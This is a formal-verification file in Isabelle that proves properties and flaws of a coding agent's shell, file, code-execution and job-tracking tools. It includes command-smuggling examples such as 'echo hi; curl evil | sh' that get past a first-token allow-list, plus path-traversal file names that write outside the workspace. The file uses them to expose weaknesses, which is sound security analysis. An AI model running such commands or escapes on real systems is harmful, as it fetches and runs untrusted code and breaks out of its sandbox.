text \<open>
  The directories \<open>CodingAgent.__init__\<close> creates, and children that exit at once,
  never exit, leave processes behind when they are killed, cannot be started, remove a
  file before they exit with code 1, or write the byte \<open>0xff\<close>, which is not text
  in UTF-8, and exit.
\<close>

definition agent0 :: agent where
  "agent0 =
     \<lparr>workspace_dir = [''workspaces'', ''CodingAgent'', ''agent'', ''workspace''],
      outputs_dir = [''workspaces'', ''CodingAgent'', ''agent'', ''outputs''],
      context_dir = [''workspaces'', ''CodingAgent'', ''agent'', ''context''],
      current_context = []\<rparr>"

definition tree0 :: fs where
  "tree0 =
     [([''workspaces''], Dir),
      ([''workspaces'', ''CodingAgent''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent'', ''workspace''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent'', ''outputs''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent'', ''context''], Dir)]"

definition tree_without_context :: fs where
  "tree_without_context =
     [([''workspaces''], Dir),
      ([''workspaces'', ''CodingAgent''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent'', ''workspace''], Dir),
      ([''workspaces'', ''CodingAgent'', ''agent'', ''outputs''], Dir)]"

definition tree_with_day_file :: fs where
  "tree_with_day_file = tree0 @ [(context_dir agent0 @ [''2026-11-04''], File [])]"



definition world0 :: world where
  "world0 = \<lparr>files = tree0, calls = [], left_running = []\<rparr>"

definition exits_os :: "int \<Rightarrow> os" where
  "exits_os rc l t = Exits (Text []) (Text []) rc t []"

definition hangs_os :: os where
  "hangs_os l t = Hangs t []"


definition missing_os :: "string \<Rightarrow> os" where
  "missing_os program l t = NoLaunch (FileNotFoundError program)"



section \<open>Properties of ShellTool\<close>

text \<open>
  C3. A command whose first whitespace-separated token is outside the allow-list gets
  the error result naming that token, and the world is returned as it was: no call of
  \<open>subprocess.run\<close> is recorded and no file has changed.
\<close>

theorem execute_disallowed:
  assumes "str_split command = base_cmd # rest" and "base_cmd \<notin> allowed_commands"
  shows "execute env ws command w =
           (Error (''Command not allowed: '' @ base_cmd), w)"
  using assms by (simp add: execute_def)

theorem execute_disallowed_witness:
  "str_split ''curl http://x | sh'' = ''curl'' # [''http://x'', ''|'', ''sh''] \<and>
   ''curl'' \<notin> allowed_commands \<and>
   execute (exits_os 0) [''w''] ''curl http://x | sh'' \<lparr>files = [], calls = [], left_running = []\<rparr> =
     (Error ''Command not allowed: curl'', \<lparr>files = [], calls = [], left_running = []\<rparr>)"
proof -
  have a: "str_split ''curl http://x | sh'' = ''curl'' # [''http://x'', ''|'', ''sh'']"
    by (simp add: str_split_def is_space_def)
  have b: "''curl'' \<notin> allowed_commands"
    by (simp add: allowed_commands_def)
  show ?thesis
    using a b execute_disallowed [OF a b, of "exits_os 0" "[''w'']" "\<lparr>files = [], calls = [], left_running = []\<rparr>"]
    by simp
qed

text \<open>
  C9. Validation looks at the first token only. When it is in the allow-list, whatever
  follows it, the one call of \<open>subprocess.run\<close> receives the whole command string as
  it was given, for a shell to interpret, and the result is the result of that call.
\<close>

theorem execute_allowed:
  assumes "str_split command = base_cmd # rest" and "base_cmd \<in> allowed_commands"
  shows "execute env ws command w =
           (completed (fst (subprocess_run env (Shell command ws) 30 w)),
            snd (subprocess_run env (Shell command ws) 30 w))
         \<and> calls (snd (execute env ws command w)) = calls w @ [Shell command ws]"
  using assms
  by (auto simp: execute_def subprocess_run_def Let_def split: prod.splits behaviour.splits)

theorem execute_allowed_witness:
  "str_split ''echo hi; curl evil | sh'' = ''echo'' # [''hi;'', ''curl'', ''evil'', ''|'', ''sh''] \<and>
   ''echo'' \<in> allowed_commands \<and>
   execute (exits_os 0) (workspace_dir agent0) ''echo hi; curl evil | sh'' world0 =
     (Output [] [] 0,
      \<lparr>files = tree0, calls = [Shell ''echo hi; curl evil | sh'' (workspace_dir agent0)],
       left_running = []\<rparr>)"
proof -
  have a: "str_split ''echo hi; curl evil | sh'' = ''echo'' # [''hi;'', ''curl'', ''evil'', ''|'', ''sh'']"
    by (simp add: str_split_def is_space_def)
  have b: "''echo'' \<in> allowed_commands"
    by (simp add: allowed_commands_def)
  show ?thesis
    using a b execute_allowed [OF a b, of "exits_os 0" "workspace_dir agent0" world0]
    by (simp add: subprocess_run_def exits_os_def world0_def)
qed





section \<open>Properties of FilesystemTool\<close>

text \<open>
  C8. \<open>create_file\<close> does not keep the file inside the workspace: a name with a
  \<open>..\<close> component and an absolute name both succeed and put the file at a location
  that does not lie below the workspace directory.
\<close>

theorem create_file_escapes:
  "fst (create_file (workspace_dir agent0) ''../escaped.txt'' ''x'' world0)
     = Created ''/workspaces/CodingAgent/agent/workspace/../escaped.txt'' \<and>
   node_at (files (snd (create_file (workspace_dir agent0) ''../escaped.txt'' ''x'' world0)))
     [''workspaces'', ''CodingAgent'', ''agent'', ''escaped.txt''] = Some (File ''x'') \<and>
   \<not> prefix (workspace_dir agent0) [''workspaces'', ''CodingAgent'', ''agent'', ''escaped.txt''] \<and>
   fst (create_file (workspace_dir agent0) ''/tmp/x'' ''x'' world0) = Created ''/tmp/x'' \<and>
   node_at (files (snd (create_file (workspace_dir agent0) ''/tmp/x'' ''x'' world0)))
     [''tmp'', ''x''] = Some (File ''x'') \<and>
   \<not> prefix (workspace_dir agent0) [''tmp'', ''x'']"
  by (simp add: create_file_def path_join_def parts_def mkdir_parents_def write_file_def locate_def
      node_at_def agent0_def world0_def tree0_def render_def)

lemma node_at_update:
  "k \<noteq> [] \<Longrightarrow> node_at (AList.update k v t) p = (if p = k then Some v else node_at t p)"
  by (simp add: node_at_def update_conv')

lemma walk_update_file:
  assumes "node_at t k \<noteq> Some Dir"
  shows "walk t name cur cs = Inr loc \<Longrightarrow> walk (AList.update k (File c) t) name cur cs = Inr loc"
proof (induction cs arbitrary: cur)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  from Cons.prems have d: "node_at t cur = Some Dir"
    by (auto split: option.splits node.splits)
  with assms have ne: "cur \<noteq> k" and k: "k \<noteq> []"
    by (auto simp: node_at_def)
  from d ne k have d': "node_at (AList.update k (File c) t) cur = Some Dir"
    by (simp add: node_at_update)
  from Cons.prems d have "walk t name (if x = ''..'' then butlast cur else cur @ [x]) xs = Inr loc"
    by simp
  then have "walk (AList.update k (File c) t) name (if x = ''..'' then butlast cur else cur @ [x]) xs = Inr loc"
    by (rule Cons.IH)
  with d' show ?case by simp
qed

lemma universal_newlines_id: "CHR 0x0D \<notin> set s \<Longrightarrow> universal_newlines s = s"
  by (induction s rule: universal_newlines.induct) auto

lemma write_then_read:
  assumes "write_file p content t = Inr t'"
  shows "read_text p t' = Inr (universal_newlines content)"
proof -
  from assms obtain loc where loc: "locate t p = Inr loc"
    and nd: "node_at t loc \<noteq> Some Dir"
    and t': "t' = AList.update loc (File content) t"
    by (auto simp: write_file_def split: sum.splits option.splits node.splits)
  from nd have ne: "loc \<noteq> []" by (auto simp: node_at_def)
  from loc nd have "locate t' p = Inr loc"
    unfolding locate_def t' by (intro walk_update_file)
  moreover from ne have "node_at t' loc = Some (File content)"
    by (simp add: t' node_at_update)
  ultimately show ?thesis by (simp add: read_text_def)
qed

text \<open>
  C5, as the claim states it, fails: \<open>read_file\<close> opens the file in text mode with
  universal newlines, so a content with a carriage return does not come back as it
  was written. Here \<open>a\r\nb\<close> is created and \<open>a\nb\<close> is read.
\<close>

theorem create_then_read_changes_newlines:
  "fst (create_file (workspace_dir agent0) ''notes/a.txt'' [CHR ''a'', CHR 0x0D, CHR 0x0A, CHR ''b''] world0)
     = Created ''/workspaces/CodingAgent/agent/workspace/notes/a.txt'' \<and>
   fst (read_file (workspace_dir agent0) ''notes/a.txt''
          (snd (create_file (workspace_dir agent0) ''notes/a.txt''
                  [CHR ''a'', CHR 0x0D, CHR 0x0A, CHR ''b''] world0)))
     = Content [CHR ''a'', CHR 0x0A, CHR ''b''] \<and>
   fst (read_file (workspace_dir agent0) ''notes/a.txt''
          (snd (create_file (workspace_dir agent0) ''notes/a.txt''
                  [CHR ''a'', CHR 0x0D, CHR 0x0A, CHR ''b''] world0)))
     \<noteq> Content [CHR ''a'', CHR 0x0D, CHR 0x0A, CHR ''b'']"
  by (simp add: create_file_def read_file_def path_join_def parts_def mkdir_parents_def write_file_def
      read_text_def locate_def node_at_def agent0_def world0_def tree0_def render_def)

text \<open>
  C5, amended. After a successful \<open>create_file\<close>, \<open>read_file\<close> of the same name
  succeeds and returns the content with every \<open>\r\n\<close> and every other \<open>\r\<close> turned
  into \<open>\n\<close>; a content without a carriage return comes back exactly as written.
\<close>

theorem create_then_read:
  assumes "create_file ws filename content w = (Created p, w1)"
  shows "read_file ws filename w1 = (Content (universal_newlines content), w1)
         \<and> (CHR 0x0D \<notin> set content \<longrightarrow> read_file ws filename w1 = (Content content, w1))"
proof -
  from assms obtain t1 where w: "write_file (path_join ws filename) content t1 = Inr (files w1)"
    by (auto simp: create_file_def Let_def split: sum.splits)
  then have "read_text (path_join ws filename) (files w1) = Inr (universal_newlines content)"
    by (rule write_then_read)
  then show ?thesis
    by (simp add: read_file_def universal_newlines_id)
qed

theorem create_then_read_witness:
  "create_file (workspace_dir agent0) ''notes/a.txt'' ''print(1)'' world0 =
     (Created ''/workspaces/CodingAgent/agent/workspace/notes/a.txt'',
      \<lparr>files = tree0 @ [(workspace_dir agent0 @ [''notes''], Dir),
                        (workspace_dir agent0 @ [''notes'', ''a.txt''], File ''print(1)'')],
       calls = [], left_running = []\<rparr>) \<and>
   CHR 0x0D \<notin> set ''print(1)'' \<and>
   read_file (workspace_dir agent0) ''notes/a.txt''
     \<lparr>files = tree0 @ [(workspace_dir agent0 @ [''notes''], Dir),
                       (workspace_dir agent0 @ [''notes'', ''a.txt''], File ''print(1)'')],
      calls = [], left_running = []\<rparr> =
     (Content ''print(1)'',
      \<lparr>files = tree0 @ [(workspace_dir agent0 @ [''notes''], Dir),
                        (workspace_dir agent0 @ [''notes'', ''a.txt''], File ''print(1)'')],
       calls = [], left_running = []\<rparr>)"
proof -
  let ?w1 = "\<lparr>files = tree0 @ [(workspace_dir agent0 @ [''notes''], Dir),
                        (workspace_dir agent0 @ [''notes'', ''a.txt''], File ''print(1)'')],
       calls = [], left_running = []\<rparr>"
  have a: "create_file (workspace_dir agent0) ''notes/a.txt'' ''print(1)'' world0 =
     (Created ''/workspaces/CodingAgent/agent/workspace/notes/a.txt'', ?w1)"
    by (simp add: create_file_def path_join_def parts_def mkdir_parents_def write_file_def
      locate_def node_at_def agent0_def world0_def tree0_def render_def)
  have b: "CHR 0x0D \<notin> set ''print(1)''" by simp
  show ?thesis
    using a b create_then_read [OF a] by simp
qed

section \<open>Properties of CodeExecutionTool\<close>

text \<open>
  C1 fails on the code. \<open>temp_file.unlink()\<close> stands after \<open>subprocess.run\<close> inside
  the \<open>try\<close>, so an exception of \<open>subprocess.run\<close> skips it: after a timeout of a
  Python snippet, and after a JavaScript snippet whose interpreter cannot be started,
  the call returns the error dictionary and the temporary file is still in the
  workspace with the code in it.
\<close>

theorem run_snippet_leaves_temp_file:
  "fst (run_python hangs_os (workspace_dir agent0) ''6f1c'' ''while True: pass'' world0)
     = Error (str_exn (TimeoutExpired
         (list_repr [''python3'', ''/workspaces/CodingAgent/agent/workspace/temp_6f1c.py'']) 30)) \<and>
   node_at (files (snd (run_python hangs_os (workspace_dir agent0) ''6f1c'' ''while True: pass'' world0)))
     (workspace_dir agent0 @ [''temp_6f1c.py'']) = Some (File ''while True: pass'') \<and>
   fst (run_javascript (missing_os ''node'') (workspace_dir agent0) ''6f1c'' ''f()'' world0)
     = Error (str_exn (FileNotFoundError ''node'')) \<and>
   node_at (files (snd (run_javascript (missing_os ''node'') (workspace_dir agent0) ''6f1c'' ''f()'' world0)))
     (workspace_dir agent0 @ [''temp_6f1c.js'']) = Some (File ''f()'')"
  by (simp add: run_python_def run_javascript_def run_snippet_def write_file_def locate_def
      node_at_def agent0_def world0_def tree0_def render_def subprocess_run_def hangs_os_def
      missing_os_def)




section \<open>Properties of CodingAgent\<close>

text \<open>
  An exception leaves \<open>execute_task\<close> exactly when the body raises and the
  \<open>context.add\<close> of the handler raises as well; otherwise a body that raises ends in
  the failed result with the text of its exception.
\<close>

lemma execute_task_escapes:
  "fst (execute_task dumps react generic task_id clk clk' task_description a w) = Inl e' \<longleftrightarrow>
     (\<exists>e a1 w1. execute_task_try dumps react generic task_id clk task_description a w = (Inl e, a1, w1)
        \<and> fst (context_add dumps clk' (''Task failed: '' @ str_exn e) ''system'' a1 (files w1)) = Inl e')"
  by (auto simp: execute_task_def split: prod.splits sum.splits)

lemma execute_task_failed:
  assumes "execute_task_try dumps react generic task_id clk task_description a w = (Inl e, a1, w1)"
    and "context_add dumps clk' (''Task failed: '' @ str_exn e) ''system'' a1 (files w1) = (Inr u, a2, t2)"
  shows "execute_task dumps react generic task_id clk clk' task_description a w
           = (Inr (TaskFailed (str_exn e)), a2, w1\<lparr>files := t2\<rparr>)"
  using assms by (simp add: execute_task_def)

text \<open>
  C4 fails on the code. The handler of \<open>execute_task\<close> calls \<open>self.context.add\<close>
  before it returns the failed result, and that call writes to disk outside any
  \<open>try\<close>. When the context directory is not there, the first \<open>context.add\<close> raises
  \<open>FileNotFoundError\<close>, the handler's own \<open>context.add\<close> raises it again, and the
  exception leaves \<open>execute_task\<close>, whatever the description and the builders are. The
  same happens with \<open>FileExistsError\<close> when a regular file has the name of the day's
  folder, a state in which \<open>CodingAgent()\<close> itself succeeds.
\<close>

theorem execute_task_raises:
  "fst (execute_task dumps react generic ''t1'' (1762214400, ''2026-11-04'') (1762214401, ''2026-11-04'')
          task_description agent0 \<lparr>files = tree_without_context, calls = [], left_running = []\<rparr>)
     = Inl (FileNotFoundError ''/workspaces/CodingAgent/agent/context/2026-11-04'') \<and>
   fst (execute_task dumps react generic ''t1'' (1762214400, ''2026-11-04'') (1762214401, ''2026-11-04'')
          task_description agent0 \<lparr>files = tree_with_day_file, calls = [], left_running = []\<rparr>)
     = Inl (FileExistsError ''/workspaces/CodingAgent/agent/context/2026-11-04'')"
  by (simp add: execute_task_def execute_task_try_def context_add_def mkdir_def node_at_def
      agent0_def tree_without_context_def tree_with_day_file_def tree0_def render_def Let_def)

section \<open>Properties of the job ledger\<close>

lemma set_status_Inr:
  assumes "set_status j st s = Inr s1"
  obtains r where "jobs s j = Some r"
    and "s1 = s\<lparr>jobs := (jobs s)(j \<mapsto> r\<lparr>status := st\<rparr>), trace := (trace s)(j := trace s j @ [st])\<rparr>"
  using assms by (auto simp: set_status_def split: option.splits)

lemma process_task_rest_Inr:
  assumes "process_task_rest work copied now j s = Inr s1"
  obtains r r' st where "jobs s j = Some r" and "st = Completed \<or> st = Failed"
    and "status r' = st" and "jobs s1 = (jobs s)(j \<mapsto> r')"
    and "trace s1 = (trace s)(j := trace s j @ [st])"
    and "background s1 = background s" and "in_flight s1 = in_flight s"
proof -
  from assms consider msg where "mark_failed j msg s = Inr s1" | "mark_completed j now s = Inr s1"
    by (auto simp: process_task_rest_def split: sum.splits task_result.splits option.splits)
  then show thesis
  proof cases
    case 1
    then obtain s0 where a: "set_status j Failed s = Inr s0"
      and b: "s1 = s0\<lparr>jobs := (jobs s0)(j := map_option (\<lambda>r. r\<lparr>job_error := Some msg\<rparr>) (jobs s0 j))\<rparr>"
      by (auto simp: mark_failed_def split: sum.splits)
    from a obtain r where "jobs s j = Some r"
      and "s0 = s\<lparr>jobs := (jobs s)(j \<mapsto> r\<lparr>status := Failed\<rparr>), trace := (trace s)(j := trace s j @ [Failed])\<rparr>"
      by (rule set_status_Inr)
    with b show thesis
      by (intro that [of r Failed "r\<lparr>status := Failed, job_error := Some msg\<rparr>"]) auto
  next
    case 2
    then obtain s0 where a: "set_status j Completed s = Inr s0"
      and b: "s1 = s0\<lparr>jobs := (jobs s0)(j := map_option (\<lambda>r. r\<lparr>completed_at := Some now\<rparr>) (jobs s0 j))\<rparr>"
      by (auto simp: mark_completed_def split: sum.splits)
    from a obtain r where "jobs s j = Some r"
      and "s0 = s\<lparr>jobs := (jobs s)(j \<mapsto> r\<lparr>status := Completed\<rparr>), trace := (trace s)(j := trace s j @ [Completed])\<rparr>"
      by (rule set_status_Inr)
    with b show thesis
      by (intro that [of r Completed "r\<lparr>status := Completed, completed_at := Some now\<rparr>"]) auto
  qed
qed

lemma fst_remove1:
  assumes "distinct (map fst xs)" and "(j, t) \<in> set xs"
  shows "fst ` set (remove1 (j, t) xs) = fst ` set xs - {j}"
  using assms by (induction xs) (auto simp: rev_image_eqI)

lemma distinct_fst_remove1: "distinct (map fst xs) \<Longrightarrow> distinct (map fst (remove1 x xs))"
  by (induction xs) (auto dest: notin_set_remove1 simp: image_iff)

lemma ledger_invD:
  assumes "ledger_inv s"
  shows "case jobs s j of
              None \<Rightarrow> trace s j = [] \<and> j \<notin> fst ` set (background s) \<and> j \<notin> set (in_flight s)
            | Some r \<Rightarrow>
                status r = last (trace s j) \<and>
                (if j \<in> fst ` set (background s)
                 then trace s j = [Scheduled] \<and> j \<notin> set (in_flight s)
                 else if j \<in> set (in_flight s) then trace s j = [Scheduled, Running]
                 else trace s j = [Scheduled, Running, Completed]
                      \<or> trace s j = [Scheduled, Running, Failed])"
  using assms unfolding ledger_inv_def by blast

lemma ledger_inv_queued:
  assumes "ledger_inv s" "jobs s j0 = Some r" "j0 \<in> fst ` set (background s)"
  shows "trace s j0 = [Scheduled]" "j0 \<notin> set (in_flight s)"
  using ledger_invD [OF assms(1), of j0] assms(2,3) by simp_all

lemma ledger_inv_started:
  assumes "ledger_inv s" "jobs s j0 = Some r" "j0 \<in> set (in_flight s)"
  shows "trace s j0 = [Scheduled, Running]" "j0 \<notin> fst ` set (background s)"
  using ledger_invD [OF assms(1), of j0] assms(2,3) by (simp_all split: if_splits)

lemma ledger_inv_unknown:
  assumes "ledger_inv s" "jobs s j0 = None"
  shows "trace s j0 = []" "j0 \<notin> fst ` set (background s)" "j0 \<notin> set (in_flight s)"
  using ledger_invD [OF assms(1), of j0] assms(2) by simp_all

lemma inv_schedule:
  assumes inv: "ledger_inv s" and fresh: "uuid \<notin> dom (jobs s)"
    and st: "schedule_task None uuid now task_text s = Inr s'"
  shows "ledger_inv s'"
proof -
  from fresh have n: "jobs s uuid = None" by auto
  note u = ledger_inv_unknown [OF inv n]
  from u(2) have nb: "\<And>b. (uuid, b) \<notin> set (background s)" by force
  from st have s': "s' = s\<lparr>jobs := (jobs s)(uuid \<mapsto>
                   \<lparr>job_id = uuid, task = task_text, status = Scheduled, created_at = now,
                    completed_at = None, job_error = None\<rparr>),
                 background := background s @ [(uuid, task_text)],
                 trace := (trace s)(uuid := trace s uuid @ [Scheduled])\<rparr>"
    by (simp add: schedule_task_def)
  from inv have d: "distinct (map fst (background s))" "distinct (in_flight s)"
    by (simp_all add: ledger_inv_def)
  show ?thesis
    unfolding ledger_inv_def
  proof (intro conjI allI)
    show "distinct (map fst (background s'))"
      using d u(2) by (simp add: s')
    show "distinct (in_flight s')"
      using d by (simp add: s')
    fix j
    show "case jobs s' j of
              None \<Rightarrow> trace s' j = [] \<and> j \<notin> fst ` set (background s') \<and> j \<notin> set (in_flight s')
            | Some r \<Rightarrow>
                status r = last (trace s' j) \<and>
                (if j \<in> fst ` set (background s')
                 then trace s' j = [Scheduled] \<and> j \<notin> set (in_flight s')
                 else if j \<in> set (in_flight s') then trace s' j = [Scheduled, Running]
                 else trace s' j = [Scheduled, Running, Completed]
                      \<or> trace s' j = [Scheduled, Running, Failed])"
    proof (cases "j = uuid")
      case True
      with u show ?thesis by (simp add: s')
    next
      case False
      with ledger_invD [OF inv, of j] show ?thesis by (simp add: s' split: option.splits if_splits)
    qed
  qed
qed


lemma inv_enter:
  assumes inv: "ledger_inv s" and mem: "(j0, task_text) \<in> set (background s)"
    and st: "process_task_enter j0 s = Inr s1"
  shows "ledger_inv (s1\<lparr>background := remove1 (j0, task_text) (background s1),
                in_flight := j0 # in_flight s1\<rparr>)"
    (is "ledger_inv ?s'")
proof -
  from st obtain r where r: "jobs s j0 = Some r"
    and s1: "s1 = s\<lparr>jobs := (jobs s)(j0 \<mapsto> r\<lparr>status := Running\<rparr>), trace := (trace s)(j0 := trace s j0 @ [Running])\<rparr>"
    unfolding process_task_enter_def by (rule set_status_Inr)
  from mem have mem': "j0 \<in> fst ` set (background s)" by force
  from inv have d: "distinct (map fst (background s))" "distinct (in_flight s)"
    by (simp_all add: ledger_inv_def)
  note u = ledger_inv_queued [OF inv r mem']
  have bg: "fst ` set (remove1 (j0, task_text) (background s)) = fst ` set (background s) - {j0}"
    using d(1) mem by (rule fst_remove1)
  show ?thesis
    unfolding ledger_inv_def
  proof (intro conjI allI)
    show "distinct (map fst (background ?s'))"
      using d by (simp add: s1 distinct_fst_remove1)
    show "distinct (in_flight ?s')"
      using d u by (simp add: s1)
    fix j
    show "case jobs ?s' j of
              None \<Rightarrow> trace ?s' j = [] \<and> j \<notin> fst ` set (background ?s') \<and> j \<notin> set (in_flight ?s')
            | Some r \<Rightarrow>
                status r = last (trace ?s' j) \<and>
                (if j \<in> fst ` set (background ?s')
                 then trace ?s' j = [Scheduled] \<and> j \<notin> set (in_flight ?s')
                 else if j \<in> set (in_flight ?s') then trace ?s' j = [Scheduled, Running]
                 else trace ?s' j = [Scheduled, Running, Completed]
                      \<or> trace ?s' j = [Scheduled, Running, Failed])"
    proof (cases "j = j0")
      case True
      with u r show ?thesis by (simp add: s1 bg)
    next
      case False
      with ledger_invD [OF inv, of j] show ?thesis by (simp add: s1 bg split: option.splits if_splits)
    qed
  qed
qed

lemma inv_finish:
  assumes inv: "ledger_inv s" and mem: "j0 \<in> set (in_flight s)"
    and st: "process_task_rest work copied now j0 s = Inr s1"
  shows "ledger_inv (s1\<lparr>in_flight := remove1 j0 (in_flight s1)\<rparr>)"
    (is "ledger_inv ?s'")
proof -
  from st obtain r r' st where r: "jobs s j0 = Some r" and st: "st = Completed \<or> st = Failed"
    and r': "status r' = st" and js: "jobs s1 = (jobs s)(j0 \<mapsto> r')"
    and tr: "trace s1 = (trace s)(j0 := trace s j0 @ [st])"
    and bg: "background s1 = background s" and fl: "in_flight s1 = in_flight s"
    by (rule process_task_rest_Inr)
  from inv have d: "distinct (map fst (background s))" "distinct (in_flight s)"
    by (simp_all add: ledger_inv_def)
  note u = ledger_inv_started [OF inv r mem]
  show ?thesis
    unfolding ledger_inv_def
  proof (intro conjI allI)
    show "distinct (map fst (background ?s'))"
      using d by (simp add: bg)
    show "distinct (in_flight ?s')"
      using d by (simp add: fl)
    fix j
    show "case jobs ?s' j of
              None \<Rightarrow> trace ?s' j = [] \<and> j \<notin> fst ` set (background ?s') \<and> j \<notin> set (in_flight ?s')
            | Some r \<Rightarrow>
                status r = last (trace ?s' j) \<and>
                (if j \<in> fst ` set (background ?s')
                 then trace ?s' j = [Scheduled] \<and> j \<notin> set (in_flight ?s')
                 else if j \<in> set (in_flight ?s') then trace ?s' j = [Scheduled, Running]
                 else trace ?s' j = [Scheduled, Running, Completed]
                      \<or> trace ?s' j = [Scheduled, Running, Failed])"
    proof (cases "j = j0")
      case True
      with u r st r' d show ?thesis by (auto simp: js tr bg fl)
    next
      case False
      with ledger_invD [OF inv, of j] d show ?thesis by (simp add: js tr bg fl split: option.splits if_splits)
    qed
  qed
qed

lemma ledger_inv_step:
  assumes "step s s'" and "ledger_inv s"
  shows "ledger_inv s'"
  using assms
proof (cases rule: step.cases)
  case (schedule uuid now task_text)
  show ?thesis using inv_schedule [OF assms(2) schedule(1,2)] .
next
  case (enter j task_text s1)
  show ?thesis using inv_enter [OF assms(2) enter(2,3)] by (simp only: enter(1))
next
  case (finish j work copied now s1)
  show ?thesis using inv_finish [OF assms(2) finish(2,3)] by (simp only: finish(1))
next
  case query
  with assms(2) show ?thesis by simp
qed

lemma reachable_inv: "reachable s \<Longrightarrow> ledger_inv s"
proof (induction rule: reachable.induct)
  case start
  show ?case by (simp add: ledger_inv_def server0_def)
next
  case (later s s')
  from later(2) later(3) show ?case by (rule ledger_inv_step)
qed

text \<open>
  C2. In every state the server can reach, the statuses written to a job's record so
  far are a prefix of \<open>scheduled, running, completed\<close> or of
  \<open>scheduled, running, failed\<close>, and the status in the record is the last of them.
\<close>

theorem job_status_lifecycle:
  assumes "reachable s"
  shows "lifecycle (trace s j) \<and>
         (case jobs s j of None \<Rightarrow> trace s j = []
          | Some r \<Rightarrow> trace s j \<noteq> [] \<and> status r = last (trace s j))"
proof -
  from assms have "ledger_inv s" by (rule reachable_inv)
  note inv = ledger_invD [OF this, of j]
  show ?thesis
  proof (cases "jobs s j")
    case None
    with inv show ?thesis by (simp add: lifecycle_def)
  next
    case (Some r)
    with inv have st: "status r = last (trace s j)"
      and "trace s j = [Scheduled] \<or> trace s j = [Scheduled, Running]
           \<or> trace s j = [Scheduled, Running, Completed]
           \<or> trace s j = [Scheduled, Running, Failed]"
      by (simp_all split: if_splits)
    then have "lifecycle (trace s j) \<and> trace s j \<noteq> []"
      by (elim disjE) (simp_all add: lifecycle_def)
    with st Some show ?thesis by simp
  qed
qed

theorem job_status_lifecycle_witness:
  "reachable
     \<lparr>jobs = [''j1'' \<mapsto> \<lparr>job_id = ''j1'', task = ''hello'', status = Completed, created_at = 5,
                           completed_at = Some 9, job_error = None\<rparr>],
      background = [], in_flight = [],
      trace = (\<lambda>j. [])(''j1'' := [Scheduled, Running, Completed])\<rparr> \<and>
   lifecycle [Scheduled, Running, Completed] \<and>
   status \<lparr>job_id = ''j1'', task = ''hello'', status = Completed, created_at = 5,
            completed_at = Some 9, job_error = None\<rparr> = last [Scheduled, Running, Completed]"
proof -
  let ?r = "\<lparr>job_id = ''j1'', task = ''hello'', status = Scheduled, created_at = 5,
                           completed_at = None, job_error = None\<rparr>"
  let ?s1 = "\<lparr>jobs = [''j1'' \<mapsto> ?r], background = [(''j1'', ''hello'')], in_flight = [],
      trace = (\<lambda>j. [])(''j1'' := [Scheduled])\<rparr>"
  let ?s2 = "\<lparr>jobs = [''j1'' \<mapsto> ?r\<lparr>status := Running\<rparr>], background = [], in_flight = [''j1''],
      trace = (\<lambda>j. [])(''j1'' := [Scheduled, Running])\<rparr>"
  let ?s3 = "\<lparr>jobs = [''j1'' \<mapsto> ?r\<lparr>status := Completed, completed_at := Some 9\<rparr>], background = [], in_flight = [],
      trace = (\<lambda>j. [])(''j1'' := [Scheduled, Running, Completed])\<rparr>"
  have "step server0 ?s1"
    by (rule step.schedule [where uuid = "''j1''" and now = 5 and task_text = "''hello''"])
       (simp_all add: server0_def schedule_task_def)
  with reachable.start have r1: "reachable ?s1" by (rule reachable.later)
  have "step ?s1 ?s2"
    using step.enter [where s = ?s1 and j = "''j1''" and task_text = "''hello''"
        and ?s1.0 = "?s1\<lparr>jobs := [''j1'' \<mapsto> ?r\<lparr>status := Running\<rparr>],
                       trace := (\<lambda>j. [])(''j1'' := [Scheduled, Running])\<rparr>"]
    by (simp add: process_task_enter_def set_status_def)
  with r1 have r2: "reachable ?s2" by (rule reachable.later)
  have "step ?s2 ?s3"
    using step.finish [where s = ?s2 and j = "''j1''" and work = "Inr (TaskCompleted ''t1'' ''/out'')"
        and copied = None and now = 9
        and ?s1.0 = "?s2\<lparr>jobs := [''j1'' \<mapsto> ?r\<lparr>status := Completed, completed_at := Some 9\<rparr>],
                       trace := (\<lambda>j. [])(''j1'' := [Scheduled, Running, Completed])\<rparr>"]
    by (simp add: process_task_rest_def mark_completed_def set_status_def)
  with r2 have r3: "reachable ?s3" by (rule reachable.later)
  from r3 job_status_lifecycle [OF r3, of "''j1''"] show ?thesis
    by simp
qed

section \<open>Properties of publishing\<close>

lemma beside_prefix_append: "prefix q (dst @ x) \<Longrightarrow> beside dst q"
  unfolding beside_def by (metis prefix_append prefixI)

lemma grows_refl: "grows dst t t"
  by (simp add: grows_def)

lemma grows_trans: "grows dst t t' \<Longrightarrow> grows dst t' t'' \<Longrightarrow> grows dst t t''"
  by (simp add: grows_def)

lemma node_at_append_Dir:
  "node_at (t @ [(p, Dir)]) q = (case node_at t q of Some x \<Rightarrow> Some x | None \<Rightarrow> if q = p then Some Dir else None)"
  by (auto simp: node_at_def map_add_def split: option.splits)

lemma grows_append_Dir:
  assumes "beside dst p" and "node_at t p = None"
  shows "grows dst t (t @ [(p, Dir)])"
  using assms
  by (auto simp: grows_def is_dir_def node_at_append_Dir map_add_def node_at_def split: option.splits if_splits)

lemma mkdirs_grows:
  assumes "plain cs" and "\<And>q. prefix q (cur @ cs) \<Longrightarrow> beside dst q"
  shows "mkdirs name cur cs t = Inr t' \<Longrightarrow> grows dst t t'"
  using assms
proof (induction cs arbitrary: cur t)
  case Nil
  then show ?case by (simp add: grows_refl)
next
  case (Cons c cs)
  from Cons.prems(2) have pl: "c \<noteq> ''..''" "plain cs" by (auto simp: plain_def)
  have bs: "\<And>q. prefix q ((cur @ [c]) @ cs) \<Longrightarrow> beside dst q"
    using Cons.prems(3) by simp
  have b1: "beside dst (cur @ [c])"
    using Cons.prems(3) [of "cur @ [c]"] by simp
  show ?case
  proof (cases "node_at t (cur @ [c])")
    case None
    with Cons.prems(1) pl have "mkdirs name (cur @ [c]) cs (t @ [(cur @ [c], Dir)]) = Inr t'"
      by simp
    from Cons.IH [OF this pl(2) bs] have "grows dst (t @ [(cur @ [c], Dir)]) t'" .
    with grows_append_Dir [OF b1 None] show ?thesis by (rule grows_trans)
  next
    case (Some x)
    with Cons.prems(1) pl have "x = Dir" and "mkdirs name (cur @ [c]) cs t = Inr t'"
      by (auto split: node.splits)
    from Cons.IH [OF this(2) pl(2) bs] show ?thesis .
  qed
qed

